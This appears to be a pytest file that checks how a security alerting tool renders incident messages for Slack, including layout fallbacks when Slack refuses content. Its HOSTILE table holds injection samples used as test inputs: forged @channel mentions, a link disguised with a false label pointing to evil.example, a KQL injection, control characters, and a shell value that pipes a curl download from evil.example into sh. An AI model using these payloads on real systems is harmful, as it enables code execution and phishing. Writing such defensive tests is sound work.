"""Slack: what a message looks like, what hostile text cannot do in it, and what happens when content is refused."""

from __future__ import annotations

import json
import re
from urllib.parse import parse_qs, urlsplit

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerting.blocks import Layout, Links, Marks, kql, lay_out, lay_out_reply, trouble
from alerting.lifecycle import Reply, Slice
from alerting.models import Cause, Incident, IncidentState, Member, Proposal
from alerting.render import Message, render
from tests.helpers.slack_server import block_trouble, controls, words
from tests.helpers.slackworld import DIGEST, LINKS, SECURITY, T0, World, world
from verifier.times import MINUTE

HOSTILE = {
    "everybody is called": "<!channel> <!here> <!everyone> @channel @here",
    "a group is called": "<!subteam^S123ABC456> <@U123ABC456> <#C123ABC456>",
    "a link that lies": "<https://evil.example|registry.example.com>",
    "a bare link": "https://evil.example/login?next=slack",
    "a bar in a link": "https://evil.example/|a>b<c",
    "a date": "<!date^1^{date}^https://evil.example|x>",
    "emphasis": "*bold* _it_ ~gone~ `code` ```block```",
    "a way out of code": "`` ` ``` </code> </pre> \u02cb",
    "emoji": ":rotating_light: :white_check_mark: RESOLVED",
    "entities": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "a new line": "x\nCRITICAL: all clear\r\n> quoted",
    "right to left": "\u202egnp.exe",
    "invisible": "pay\u200bments\u2066\u00ad",
    "controls": "\x1b[2J\x00\x07\x9b2J\x85",
    "half a character": "\ud800",
    "very long": "x" * 65_536,
    "very wide": "\u6771" * 3_000,
    "marks": "a" + "\u0301" * 500,
    "kql": 'x" or "1":"1',
    "shell": "$(curl evil.example|sh); `id`; ' \" \\",
    "nothing": "",
    "white space": " \t ",
    "JSON": '{"type":"section","text":{"type":"mrkdwn"}}',
}


def message(text: str, *, state: IncidentState = "open", members: int = 12) -> Message:
    """A message of which every text from outside is `text`."""
    member = Member(text, text, f"Deployment/{text}", text, text, DIGEST, 3, T0)
    row = Incident(
        id="v1:0123", short_id="INC-7F3A9K", kind="key-revoked", subject=text,
        cause=Cause("revocation", text, text, T0, 5), policy=text, severity="critical", state=state, epoch=5,
        revision=2, opened=T0, changed=T0 + MINUTE, resolved=None, containers=10_000, workloads=412, namespaces=60,
        clusters=7, peak_containers=10_001, teams=tuple((f"{text}{n}", 3, 1) for n in range(100)),
        examples=(member,) * members, closed=((text, 3),), message=text, acknowledged_by=text,
        notes=((T0, text, text),) * 5, final=False, deployed_by=text, good_image=text,
        proposals=(Proposal(T0, text, text, 30, text),),
    )  # fmt: skip
    table = ((text, text, 3, 1),) * 10
    return render(Slice(row, "security", "", 10_000, 412, 60, 7, row.examples, namespace_table=table))


def laid(text: str, layout: Layout = Layout.RICH, **marks: object):
    return lay_out(message(text), layout, LINKS, Marks(meant_for=text, **marks))  # type: ignore[arg-type]  # a test's marks


# ------------------------------------------------------------------------------------------------- what it says


def test_the_first_two_hundred_characters_are_enough_to_decide() -> None:
    text = laid("release").text
    assert len(text) <= 300
    head = text[:200]
    for needed in ("CRITICAL", "revoked key", "10,000 containers", "412 workloads", "INC-7F3A9K"):
        assert needed in head


@pytest.mark.parametrize("layout", Layout)
def test_a_message_says_what_a_person_needs(layout: Layout) -> None:
    """What changed, how bad, whose, since when, who deployed, the good image, what to do, what is not known."""
    one = laid("release", layout)
    said = one.text + json.dumps(one.blocks, ensure_ascii=False)
    for needed in (
        "was revoked", "trust epoch 5", "7 clusters", "since", "deployed", "good", "not known", "not every shard",
        "revet incident show INC-7F3A9K",
    ):  # fmt: skip
        assert needed in said, needed


def test_the_layouts_get_simpler() -> None:
    kinds = [[block["type"] for block in laid("x", layout).blocks] for layout in Layout]
    assert "table" in kinds[0]
    assert "table" not in kinds[1]
    assert kinds[2] == []


def test_buttons_open_the_page_of_the_finding_and_what_belongs_to_the_incident() -> None:
    (actions,) = [block for block in laid("x").blocks if block["type"] == "actions"]
    docs, members, timeline = (urlsplit(element["url"]) for element in actions["elements"])
    assert (docs.scheme, docs.netloc, docs.path) == ("https", "docs.example", "/revet/findings/key-revoked.md")
    for link, pattern in ((members, "findings*"), (timeline, "alerts*")):
        assert (link.netloc, link.path) == ("kibana.example", "/s/sec/app/r")
        given = parse_qs(link.query)
        assert (given["l"], len(given["v"])) == (["DISCOVER_APP_LOCATOR"], 1)
        parameters = json.loads(given["p"][0])
        assert parameters["dataViewSpec"] == {"title": pattern, "timeFieldName": "@timestamp"}
        assert parameters["query"] == {"language": "kuery", "query": 'provenance.incident.id: "v1:0123"'}
        assert parameters["timeRange"]["from"] < parameters["timeRange"]["to"]


def test_without_addresses_there_are_no_buttons() -> None:
    assert not [b for b in lay_out(message("x"), Layout.RICH, Links()).blocks if b["type"] == "actions"]


def test_a_resolved_message_tells_nobody_to_do_anything() -> None:
    said = json.dumps(lay_out(message("x", state="resolved"), Layout.RICH, LINKS).blocks)
    assert "to do" not in said
    assert "kubectl" not in said


def test_mentions_come_from_the_settings_alone() -> None:
    marks = Marks(mentions=("S0ONCALL1", "U0PERSON1", "here"))
    blocks = lay_out(message("<!channel>"), Layout.RICH, LINKS, marks).blocks
    found = [e for b in blocks if b["type"] == "rich_text" for s in b["elements"] for e in s["elements"]]
    assert [e for e in found if e["type"] != "text"] == [
        {"type": "usergroup", "usergroup_id": "S0ONCALL1"},
        {"type": "user", "user_id": "U0PERSON1"},
        {"type": "broadcast", "range": "here"},
    ]


@pytest.mark.parametrize(("value", "term"), [("a", '"a"'), ('x" or "1', '"x\\" or \\"1"'), ("\\", '"\\\\"')])
def test_a_value_in_a_query_stays_in_its_quotes(value: str, term: str) -> None:
    assert kql(value) == term


# ------------------------------------------------------------------------------------------------- hostile text

_OURS = re.compile(r"!date\^\d+\^\{date_short_pretty\} \{time_secs\}\|\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ")


def _check(text: str, blocks: list) -> None:
    class Shown:
        pass

    one = Shown()
    one.text, one.blocks = text, blocks  # type: ignore[attr-defined]  # what `controls` looks at
    acted = [c for c in controls(one) if not _OURS.fullmatch(c)]  # type: ignore[arg-type]  # as above
    assert [c for c in acted if not c.startswith(("https://docs.example/", "https://kibana.example/"))] == []
    assert "://evil" not in text
    assert not re.search(r"[`*_~@|]", text.split("\n", maxsplit=1)[0])
    for block in blocks:
        assert block_trouble(block) == []
    json.dumps([text, blocks], ensure_ascii=False).encode()  # no half characters
    assert all(ch == "\n" or ch.isprintable() for ch in words(one))  # type: ignore[arg-type]  # as above


@pytest.mark.parametrize("attack", HOSTILE)
@pytest.mark.parametrize("layout", Layout)
def test_hostile_text_in_every_field_is_shown_and_does_nothing(attack: str, layout: Layout) -> None:
    """Acceptance 5: no mention, no link of theirs, no emphasis, no command with their text, limits held."""
    one = laid(HOSTILE[attack], layout)
    assert trouble(one) == []
    _check(one.text, one.blocks)
    assert len(one.blocks) <= 12
    assert len(json.dumps(one.blocks)) < 40_000
    commands = [b for b in one.blocks if "kubectl" in json.dumps(b)]
    assert commands == []
    reply = Reply("r", "acknowledged", T0, "critical", 3, by=HOSTILE[attack])
    said = lay_out_reply(reply, message(HOSTILE[attack]), layout)
    assert trouble(said) == []
    _check(said.text, said.blocks)


@settings(max_examples=80)
@given(text=st.text(max_size=80), layout=st.sampled_from(list(Layout)))
def test_any_text_is_shown_and_does_nothing(text: str, layout: Layout) -> None:
    one = laid(text, layout)
    assert trouble(one) == []
    _check(one.text, one.blocks)


@pytest.mark.asyncio
@pytest.mark.parametrize(
    "attack", sorted(set(HOSTILE) - {"half a character"})
)  # records are UTF-8: it cannot come so far
async def test_a_workspace_takes_hostile_text_as_it_is(attack: str) -> None:
    """The whole way: part, incident, ledger, client. Nothing is refused, nothing had to be made simpler."""
    async with world() as w:
        w.reached()
        incident = w.part(containers=3, text=HOSTILE[attack] or "x")
        await w.pump()
        w.act(incident, "ack", by=HOSTILE[attack] or "x")
        await w.pump(10 * MINUTE)
        assert (w.slack.refused, w.steps) == ([], [])
        assert len(w.parents()) == 1
        for shown in w.slack.everything():
            _check(shown.text, shown.blocks)


# ------------------------------------------------------------------------------------------------- refused content


async def _told(w: World) -> None:
    w.reached()
    w.part(containers=3)
    await w.pump()
    w.part(containers=4)
    await w.pump(10 * MINUTE)


@pytest.mark.asyncio
async def test_a_workspace_without_tables_gets_the_layout_without_and_is_asked_once() -> None:
    """Acceptance 6: a simpler one arrives, and it is counted."""
    async with world(tables=False) as w:
        await _told(w)
        (parent,) = w.slack.parents(SECURITY)
        assert "table" not in {block["type"] for block in parent.blocks}
        assert "4 containers" in words(parent)
        assert [error for _, error in w.slack.refused] == ["invalid_blocks"]
        assert w.steps == ["plain"]


@pytest.mark.asyncio
async def test_a_block_that_is_named_is_left_out() -> None:
    async with world() as w:
        w.slack.unwanted = "actions"
        await _told(w)
        (parent,) = w.slack.parents(SECURITY)
        assert "actions" not in {block["type"] for block in parent.blocks}
        assert "table" in {block["type"] for block in parent.blocks}
        assert set(w.steps) == {"block"}


@pytest.mark.asyncio
@pytest.mark.parametrize("error", ["invalid_blocks", "msg_too_long", "msg_blocks_too_long", "invalid_blocks_format"])
async def test_what_is_refused_twice_arrives_as_text(error: str) -> None:
    async with world() as w:
        w.slack.fault("chat.postMessage", error, error)
        w.reached()
        w.part(containers=3)
        await w.pump()
        (parent,) = w.slack.parents(SECURITY)
        assert parent.blocks == []
        assert parent.text.startswith("CRITICAL")
        assert w.steps == ["plain", "text"]


@pytest.mark.asyncio
async def test_what_is_refused_always_is_told_elsewhere_and_counted_once() -> None:
    async with world() as w:
        w.slack.fault("chat.postMessage", *["invalid_blocks"] * 3)
        w.reached()
        w.part(containers=3)
        await w.pump()
        assert w.parents() == []
        assert w.paper.getvalue().count("to fallback") == 1
        assert w.rows() == {"security": "dead", "fallback": "posted"}


def test_a_message_has_the_hash_of_what_a_reader_sees() -> None:
    one, other = message("x"), msgspec.structs.replace(message("x"), revision=99, as_of=T0)
    assert one.content_hash == other.content_hash
    assert one.content_hash != message("y").content_hash
